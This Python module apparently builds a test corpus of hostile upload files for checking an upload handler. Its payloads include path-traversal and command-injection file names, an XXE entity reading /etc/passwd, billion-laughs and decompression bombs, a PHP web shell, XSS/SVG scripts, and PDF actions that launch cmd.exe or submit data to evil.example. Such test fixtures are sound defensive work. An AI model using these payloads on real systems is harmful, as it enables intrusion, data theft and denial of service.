"""Files that are not what they say, or more than they seem: at least 150 of them."""

from __future__ import annotations

import bz2
import gzip
import io
import random
import tarfile
import zipfile
from collections.abc import Iterator

from bench.hostile.pictures import CANARY, SCRIPT, Hostile, pictures

PLAIN = "现场情况说明，一切如常。".encode()
PAGE = b"<!doctype html><title>x</title>" + SCRIPT
VECTOR = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "'
    + b"ha" * 50
    + b'">'
    + b"".join(b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
NAMES = (
    "../../../../etc/cron.d/x", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\autoexec.bat", "\\\\host\\share\\x",
    "....//....//x", "%2e%2e%2fx", "..%c0%afx", "file:///etc/passwd", "http://evil.example/x", "//evil.example/x",
    ".htaccess", ".user.ini", "web.config", "crossdomain.xml", "index.html", "x.php", "x.php.txt", "x.jsp", "x.shtml",
    "x.svg", "x.txt.exe", "x.lnk", "desktop.ini", "con", "nul.txt", "aux", "x.txt:stream", "x.txt.", "x.txt ", " ",
    "", ".", "..", "-rf", "--help", "$(id)", "`id`", "|id", ";id;", "x;y", "&& id", "%n%n%s", "{{7*7}}", "${7*7}",
    "<script>alert(1)</script>.txt", "\"onmouseover=alert(1) x=\".txt", "'><img src=x onerror=alert(1)>.txt",
    "=cmd|' /C calc'!A0.txt", "\u202etxt.exe", "a\u200b\u200c\u200d.txt", "\ufeffx.txt", "x\u2028y.txt", "a\x00.php",
    "x\r\nSet-Cookie: a=b", "x\"; filename=\"y.html", "长" * 4_000 + ".txt", "a" * 300 + ".txt", "e\u0301" * 200,
    "\ud7ff\U0001f4a9.txt", "ＡＢＣ．ｔｘｔ", "\u3164\u3164.txt",
)  # fmt: skip


def named() -> Iterator[Hostile]:
    """Harmless words under names that are not."""
    for number, name in enumerate(NAMES):
        yield Hostile(f"name {number} {name[:24]!r}", name, PLAIN + b"%d" % number)


def active() -> Iterator[Hostile]:
    """What a browser or a server would carry out, under its own name and under a picture's."""
    programs = {
        "html": PAGE, "xhtml": b'<?xml version="1.0"?><html xmlns="x">' + SCRIPT + b"</html>",
        "svg": VECTOR, "xml": ENTITY, "php": b"<?php system($_GET[0]); ?>", "jsp": b'<%= "x" %>', "hta": b"<hta:a>",
        "exe": b"MZ\x90\0" + bytes(200), "elf": b"\x7fELF" + bytes(200), "class": b"\xca\xfe\xba\xbe" + bytes(80),
        "swf": b"FWS\x09" + bytes(80), "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "sh": b"#!/bin/sh\n",
        "wasm": b"\0asm\x01\0\0\0", "sqlite": b"SQLite format 3\0" + bytes(100), "ps": b"\x04%!PS\x00",
    }  # fmt: skip
    for ending, content in programs.items():
        yield Hostile(f"{ending} as itself", f"x.{ending}", content, refused=True)
        yield Hostile(f"{ending} as a picture", "现场.jpg", content, refused=True)
    for label, content in {
        "page after spaces": b" \n\t\n" + PAGE, "page after a mark": b"\xef\xbb\xbf" + PAGE,
        "page in UTF-16": PAGE.decode().encode("utf-16"), "words with a NUL": b"abc\0def", "laughs": LAUGHS,
        "vector after spaces": b"\n\n" + VECTOR,
    }.items():  # fmt: skip
        yield Hostile(label, "x.txt", content, refused=True)
    for label, content in {
        "page in UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "script": b"alert(1)//", "formula": b"=1+1|cmd",
        "style": b"*{background:url(//evil.example)}", "htaccess": b"AddType application/x-httpd-php .txt",
        "page in a sentence": "说明：".encode() + PAGE, "message": b"Content-Type: text/html\n\n" + PAGE,
    }.items():  # fmt: skip
        yield Hostile(f"text that is a {label}", "x.html", content)


def archive(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as archived:
        for name, content in parts.items():
            archived.writestr(name, content)
    return made.getvalue()


def documents() -> Iterator[Hostile]:
    """Office documents and archives: bombs, macros, entities, entries that lead elsewhere."""
    types = {"[Content_Types].xml": b"<x/>"}
    for ending, main in (("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml")):
        yield Hostile(f"{ending} with an entity", f"x.{ending}", archive({**types, main: ENTITY}))
        yield Hostile(f"{ending} with laughs", f"x.{ending}", archive({**types, main: LAUGHS}))
        yield Hostile(f"{ending} bomb", f"x.{ending}", archive({**types, main: bytes(400_000_000)}))
        yield Hostile(f"{ending} leading out", f"x.{ending}", archive({**types, main: b"x", "../../../x": b"x"}))
        many = {f"word/{n}.xml": b"" for n in range(60_000)}
        yield Hostile(f"{ending} of 60,000 parts", f"x.{ending}", archive({**types, main: b"x", **many}), refused=True)
        folder = main.partition("/")[0]
        for macro in ("vbaProject.bin", "VBAPROJECT.BIN", "other/vbaProject.bin"):
            parts = {**types, main: b"x", f"{folder}/{macro}": b"x"}
            yield Hostile(f"{ending} with {macro}", f"x.{ending}", archive(parts), refused=True)
        yield Hostile(f"{ending} cut", f"x.{ending}", archive({**types, main: b"x" * 999})[:-30], refused=True)
    nested = archive({"0.zip": archive({"0.zip": archive({"x": bytes(9_000_000)})})})
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w") as archived:
        archived.addfile(tarfile.TarInfo("../../x"))
    for name, content in {
        "x.zip": nested, "x.jar": archive({"META-INF/MANIFEST.MF": b"x"}), "x.tar": tape.getvalue(),
        "x.gz": gzip.compress(bytes(50_000_000)), "x.bz2": bz2.compress(bytes(50_000_000)),
        "x.7z": b"7z\xbc\xaf\x27\x1c",
        "x.rar": b"Rar!\x1a\x07\x01\x00", "x.cab": b"MSCF" + bytes(60), "x.docx": b"PK\x03\x04" + bytes(2_000),
    }.items():  # fmt: skip
        yield Hostile(f"archive {name}", name, content, refused=True)


def papers_and_sounds() -> Iterator[Hostile]:
    """PDF and recordings: kept as they are, and never opened here."""
    acts = {
        "script": b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "launch": b"/S /Launch /F (cmd.exe)",
        "link": b"/S /URI /URI (javascript:alert(1))", "form": b"/S /SubmitForm /F (http://evil.example)",
        "file": b"/EmbeddedFile /F (x.exe)", "page": PAGE,
    }  # fmt: skip
    for label, act in acts.items():
        yield Hostile(f"PDF with a {label}", "x.pdf", b"%PDF-1.7\n1 0 obj\n<< " + act + b" >>\nendobj\n%%EOF")
    yield Hostile("PDF behind a page", "x.pdf", PAGE + b"\n%PDF-1.7", refused=True)
    for beginning, ending in ((b"ID3\x04", "mp3"), (b"\xff\xfb\x90\0", "mp3"), (b"RIFF\0\0\0\0WAVE", "wav"),
                              (b"#!AMR\n", "amr")):  # fmt: skip
        for what in (PAGE, VECTOR):
            yield Hostile(f"{ending} that is a page", f"x.{ending}.html", beginning + what)


def sizes() -> Iterator[Hostile]:
    limit = 20 * 1024 * 1024
    yield Hostile("nothing", "x.txt", b"", refused=True)
    yield Hostile("a letter", "x.txt", b"x")
    yield Hostile("20 MB", "x.txt", b"x" * limit)
    yield Hostile("20 MB and a letter", "x.txt", b"x" * (limit + 1), refused=True)
    yield Hostile("24 MB of zeros", "x.png", b"\x89PNG\r\n\x1a\n" + bytes(24 * 1024 * 1024), refused=True)
    yield Hostile("words without end of line", "x.txt", "长".encode() * 6_000_000)


def corpus(chance: random.Random, bent: int = 6) -> list[Hostile]:
    """All of them, in any order."""
    made = [*named(), *active(), *documents(), *papers_and_sounds(), *sizes(), *pictures(chance, bent)]
    chance.shuffle(made)
    return made


__all__ = ["CANARY", "Hostile", "corpus"]
